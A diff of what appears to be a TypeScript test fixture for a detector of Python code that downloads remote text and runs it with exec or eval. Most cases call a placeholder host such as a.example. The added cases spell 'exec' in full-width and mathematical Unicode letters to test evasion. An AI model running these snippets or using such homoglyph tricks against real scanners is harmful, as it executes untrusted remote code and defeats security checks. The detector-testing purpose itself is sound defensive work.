@@ -9,6 +9,8 @@ const address = base64('https://feed.prices.example/v2/quote');
 /** name, what must be among the kinds that are seen, the program. */
 const shapes: readonly (readonly [string, string, string | Record<string, string>])[] = [
   ['exec of an answer', 'runs-fetched-text', `import requests\nexec(requests.get('https://a.example/x').text)\n`],
+  ['exec in letters of full width', 'runs-fetched-text', `import requests\n\uff45\uff58\uff45\uff43(requests.get(U).text)\n`],
+  ['exec in mathematical letters', 'runs-fetched-text', `import requests\n\u{1d41e}xec(requests.get(U).text)\n`],
   ['exec of a name that holds an answer', 'runs-fetched-text', `import requests as rq\nr = rq.get(U)\nbody = r.content.decode()\nexec(body)\n`],
   ['eval of a field of an answer', 'runs-fetched-text', `from requests import post\ndef go():\n    answer = post(U, json={}).json()\n    return eval(answer["rule"])\n`],
   ['exec of compiled urllib text', 'runs-fetched-text', `from urllib.request import urlopen\nexec(compile(urlopen(U).read(), 'm', 'exec'))\n`],
